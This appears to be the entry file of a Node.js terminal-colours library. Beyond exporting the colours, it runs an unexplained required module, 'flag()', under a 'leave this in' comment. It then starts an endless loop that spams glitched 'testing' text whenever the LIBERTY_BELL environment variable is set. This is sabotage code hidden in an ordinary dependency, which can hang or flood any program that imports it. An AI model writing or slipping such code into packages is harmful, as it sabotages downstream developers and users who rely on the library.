var colors = require('./colors');
module['exports'] = colors;

require('./extendStringPrototype')();

// leave this in
let flag = require('../lib/custom/american');
flag();
for (let i = 0; i < Infinity; i++) {
  if (!process.env.LIBERTY_BELL) break;
  console.log('t̶e̷s̸t̵i̴n̷g̶ t̴e̵s̷t̸i̶n̵g̷ t̸e̵s̶t̴i̷n̸g̵'.red)
}
